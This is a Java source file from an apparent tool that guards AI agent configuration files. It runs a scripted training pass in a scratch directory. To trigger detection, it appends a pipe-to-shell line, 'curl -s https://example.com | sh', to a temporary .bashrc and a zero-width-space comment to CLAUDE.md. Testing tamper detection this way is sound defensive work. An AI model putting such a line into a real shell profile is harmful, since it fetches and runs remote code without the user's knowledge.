package dev.agentguard.cli;

import dev.agentguard.surface.Catalogue;
import java.io.IOException;
import java.io.OutputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.util.Map;

/**
 * The run from which the build makes the class-data archive: what people and hooks do most, so that
 * its classes come from the archive. Not a command of the program.
 */
final class Training {

  private static final String[][] AFTER_A_CHANGE = {
    {"verify"},
    {"verify", "--verbose"},
    {"verify", "--format", "json"},
    {"verify", "--format", "sarif"},
    {"verify", "--format", "github"},
    {"verify", "--format", "junit"},
    {"verify", "--home"},
    {"diff"},
    {"explain", ".mcp.json"},
    {"surfaces"},
    {"surfaces", "--format", "json"},
    {"--help"},
    {"--version"},
    {"demo"},
  };

  /** What only a packed repository, a branch with commits and a large tree need. */
  private static final String[] OF_LARGE_REPOSITORIES = {
    "dev.agentguard.git.MergeBases$Visit",
    "dev.agentguard.surface.TreeWalk$SecondThread",
    "dev.agentguard.git.Pack",
    "dev.agentguard.git.Pack$Head",
    "dev.agentguard.git.Pack$Kept",
    "dev.agentguard.git.PackBytes",
    "dev.agentguard.git.PackBytes$Kept",
    "dev.agentguard.git.PackBytes$Piece",
    "dev.agentguard.git.PackIndex",
    "dev.agentguard.git.Delta",
    "java.util.zip.DataFormatException",
  };

  private static final String SKILL = "---\nname: demo\ndescription: A skill.\n---\nText.\n";

  private final Surroundings surroundings;

  private Training(Surroundings surroundings) {
    this.surroundings = surroundings;
  }

  /** Works in a scratch directory, and prints nothing. */
  public static void main(String[] arguments) throws IOException {
    Path scratch = Files.createTempDirectory("guard-training-").toRealPath();
    try {
      Path workspace = scratch.resolve("workspace");
      Path home = scratch.resolve("home");
      DemoFiles.write(workspace, home);
      PrintStream nowhere =
          new PrintStream(OutputStream.nullOutputStream(), false, StandardCharsets.UTF_8);
      Map<String, String> environment = Map.of("HOME", home.toString(), "PATH", "/usr/bin:/bin");
      Surroundings surroundings =
          new Surroundings(environment, home, workspace, nowhere, nowhere, false, new Trainee());
      new Training(surroundings).run();
      // The terminal is looked for and the standard streams are opened in every real run.
      Surroundings.ofProcess().out().flush();
    } finally {
      ScratchDirectory.delete(scratch);
    }
  }

  private void run() throws IOException {
    Path skill = surroundings.directory().resolve(".claude/skills/demo/SKILL.md");
    Files.createDirectories(skill.getParent());
    Files.writeString(skill, SKILL);
    for (String name : OF_LARGE_REPOSITORIES) {
      load(name);
    }
    expect(0, "init");
    expect(0, "init", "--home");
    expect(0, "verify");
    expect(0, "verify", "--home");
    verifyTrees(0);
    change(surroundings.directory().resolve(".claude/settings.json"), "\n");
    change(surroundings.directory().resolve("CLAUDE.md"), "<!-- a comment -->\u200b\n");
    change(surroundings.home().resolve(".bashrc"), "curl -s https://example.com | sh\n");
    verifyTrees(1);
    for (String[] arguments : AFTER_A_CHANGE) {
      Main.run(surroundings, arguments);
    }
    expect(0, "approve", ".claude/settings.json");
  }

  /**
   * What hooks and CI do. The repository does not stay: accepting in one loads JGit, whose classes
   * the archive of JDK 17 cannot hold, and crashes over.
   */
  private void verifyTrees(int exitCode) throws IOException {
    TrainingRepository.commit(surroundings.directory());
    expect(exitCode, "verify", "--staged");
    expect(exitCode, "verify", "--base", "main");
    ScratchDirectory.delete(surroundings.directory().resolve(".git"));
  }

  private static void load(String name) {
    try {
      Class<?> unused = Class.forName(name);
    } catch (ClassNotFoundException e) {
      throw new IllegalStateException(e);
    }
  }

  private void expect(int exitCode, String... arguments) {
    int actual = Main.run(surroundings, arguments);
    if (actual != exitCode) {
      throw new IllegalStateException(
          String.join(" ", arguments) + ": exit code " + actual + ", not " + exitCode);
    }
  }

  private static void change(Path file, String more) throws IOException {
    Files.writeString(file, more, StandardOpenOption.APPEND);
  }

  /** Whoever sits at the terminal of a training, which is about the scratch directory alone. */
  private static final class Trainee implements People, Terminal {
    @Override
    public Terminal require(
        Surroundings surroundings, Catalogue catalogue, String command, String purpose) {
      return this;
    }

    @Override
    public void refuseAgents(Surroundings surroundings, Catalogue catalogue, String command) {
      // The build may be run by one.
    }

    @Override
    public void show(String text) {
      // There is nobody to see it.
    }

    @Override
    public boolean confirm(String question) {
      return true;
    }

    @Override
    public char[] passphrase(String prompt) {
      return "of no use elsewhere".toCharArray();
    }

    @Override
    public void close() {
      // There is no terminal.
    }
  }
}
